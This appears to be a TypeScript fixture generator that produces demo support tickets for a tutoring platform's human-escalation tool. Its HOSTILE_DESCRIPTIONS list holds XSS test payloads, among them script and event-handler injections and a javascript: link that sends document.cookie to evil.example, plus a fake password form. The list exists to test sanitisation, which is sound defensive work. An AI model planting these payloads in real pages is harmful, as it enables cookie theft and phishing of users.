import type { Rng } from '../../rng';

/**
 * Words for demo tickets. Descriptions are written by the mentor's human-support tool, so they arrive as HTML,
 * Markdown or plain text — and sometimes carry markup a client must never render raw.
 */
export interface TicketContext {
  mentor: string;
  learner: string;
  topic: string;
}

const TOPICS = [
  'the final exam',
  'assignment 3',
  'the lab report',
  'enrolment',
  'tuition fees',
  'the reading list',
  'my certificate',
  'group project',
  'the midterm grade',
  'course access',
  'password reset',
  'accessibility accommodations',
  'a wrong answer from the mentor',
  'video lectures',
  'office hours',
  'deadline extension',
  'plagiarism check',
];

const SUBJECTS: ((c: TicketContext) => string)[] = [
  (c) => `Need to talk to a person about ${c.topic}`,
  (c) => `Can't submit ${c.topic}`,
  (c) => `${c.mentor} gave a confusing answer`,
  (c) => `Question about ${c.topic}`,
  (c) => `Request: deadline extension for ${c.topic}`,
  () => 'Locked out of my account',
  () => 'Refund request',
  (c) => `Help with ${c.topic} 🙏`,
  (c) => `Urgent: ${c.topic} 😟`,
  () => 'لا أستطيع الوصول إلى الدورة',
  () => 'בעיה בהגשת המטלה',
  (c) => `Mentor escalation — ${c.topic}`,
];

const LEARNER_LINES: ((c: TicketContext) => string)[] = [
  (c) => `Hi, I asked ${c.mentor} about ${c.topic} but I really need a human to look at this.`,
  (c) => `The upload keeps failing for ${c.topic}. I tried twice 😩`,
  () => 'Can someone call me back? My phone number is in my profile.',
  (c) => `I think the grade for ${c.topic} is wrong, could you check?`,
  () => 'Thanks! That fixed it 🎉',
  () => 'Still not working, sorry. Same error as before.',
  () => 'مرحباً، ما زلت أنتظر الرد. شكراً لكم',
  () => 'תודה רבה על העזרה!',
  () => 'Any update on this? The deadline is tomorrow ⏰',
  (c) => `I attached a screenshot about ${c.topic} in the chat.`,
];

const STAFF_LINES: ((c: TicketContext) => string)[] = [
  (c) => `Hi ${c.learner}, thanks for reaching out. I'm looking into ${c.topic} now.`,
  () => 'Could you tell me which browser you are using?',
  () => "I've reset the submission; please try again and let me know.",
  (c) => `I've spoken to the course team about ${c.topic}; they will follow up by email.`,
  () => 'This should be fixed now. Closing the ticket — reply here if it happens again.',
  () => 'I extended your deadline by 48 hours.',
];

export const SYSTEM_OPENED = (c: TicketContext) =>
  `Ticket filed by ${c.mentor} (human support): the learner asked to talk to a person.`;
export const SYSTEM_CLOSED = 'Ticket marked as resolved.';

/** Markup a client must neutralise: script, event handlers, frames and javascript: links. */
export const HOSTILE_DESCRIPTIONS: readonly string[] = [
  '<p>Learner pasted this:</p><script>alert("xss")</script><p>Please advise.</p>',
  '<p>Screenshot attached: <img src="x" onerror="alert(document.cookie)"></p>',
  '<p>The learner shared a page:</p><iframe src="https://evil.example/phish" width="800" height="600"></iframe>',
  'The learner says the [reset link](javascript:alert(1)) in the course page does nothing.',
  '<a href="javascript:fetch(\'https://evil.example/?c=\'+document.cookie)">Click to view the transcript</a>',
  '<svg onload="alert(1)"><circle r="10"/></svg> **Learner** sent this image.',
  '<form action="https://evil.example/login"><input name="password" placeholder="Re-enter your password"></form>',
];

export function pickTopic(rng: Rng): string {
  return rng.pick(TOPICS);
}

export function subjectFor(rng: Rng, c: TicketContext): string {
  return rng.pick(SUBJECTS)(c).slice(0, 255);
}

export function descriptionFor(rng: Rng, c: TicketContext, question: string): string {
  switch (rng.int(0, 5)) {
    case 0:
      return `<p>The learner asked for a human during a <strong>${c.mentor}</strong> session.</p>\n<ul>\n  <li>Topic: ${c.topic}</li>\n  <li>Learner: ${c.learner}</li>\n</ul>\n<blockquote>${question}</blockquote>`;
    case 1:
      return `**Escalated by ${c.mentor}**\n\n- Topic: *${c.topic}*\n- Learner: ${c.learner}\n\n> ${question}\n\nSummary of the chat so far: the mentor could not resolve the request.`;
    case 2:
      return `## Human support request\n\n1. Learner asked about ${c.topic}\n2. Mentor suggested the FAQ\n3. Learner asked for a person\n\n\`\`\`\nsession flagged: needs_human\n\`\`\``;
    case 3:
      return `<div><p>${question}</p><p><em>Filed automatically by ${c.mentor}.</em> <a href="https://help.northbridge.example/faq">FAQ</a></p></div>`;
    case 4:
      return `${c.learner} wrote: "${question}" — mentor ${c.mentor} could not help with ${c.topic}.`;
    default:
      return `الطالب ${c.learner} يطلب المساعدة بخصوص ${c.topic}. 📚\n\n> ${question}`;
  }
}

export function learnerLine(rng: Rng, c: TicketContext): string {
  return rng.pick(LEARNER_LINES)(c);
}

export function staffLine(rng: Rng, c: TicketContext): string {
  return rng.pick(STAFF_LINES)(c);
}
